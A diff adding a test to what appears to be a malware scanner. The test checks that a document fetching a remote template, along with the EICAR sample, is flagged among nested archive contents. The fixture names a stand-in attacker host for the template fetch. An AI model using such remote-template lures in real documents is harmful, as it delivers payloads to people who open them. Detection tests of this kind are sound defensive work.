@@ -339,6 +339,20 @@ def test_of_many_files_those_count_first_in_which_something_was_found() -> None:
     assert report.files[0] == digest(LNK) and len(report.files) == values.MAX_FILES
 
 
+def test_of_the_files_in_a_file_those_that_are_malware_themselves_are_told_as_such() -> None:
+    """Neither what carries them, nor a program or a document with macros beside them."""
+    fetches = with_template("http://evil.example.net/t.dotm")
+    inner = packed(devis__docx=fetches, notice__txt=b"an innocent text " * 9)
+    report = look(packed(dossier__zip=inner, eicar__com=samples.EICAR, outil__exe=EXE, lien__lnk=LNK))
+    assert set(report.malware) == {digest(fetches), digest(samples.EICAR)}
+    assert [*report.files[:2]] == report.malware and digest(inner) in report.files
+    alone = look(fetches)
+    assert kinds.MALWARE in alone.found and alone.malware == [], "it is the file itself"
+    forged = values.encode(Report(malware=[digest(EXE)], files=[digest(LNK)]))
+    with pytest.raises(ValueError, match="files"):
+        values.decode(forged)
+
+
 def test_pictures_and_what_has_no_content_are_no_files_to_know_a_lure_by() -> None:
     logo = b"\x89PNG\r\n\x1a\n" + bytes(400)
     assert look(packed(logo__png=logo, vide__txt=b"", court__txt=b"x")).files == []
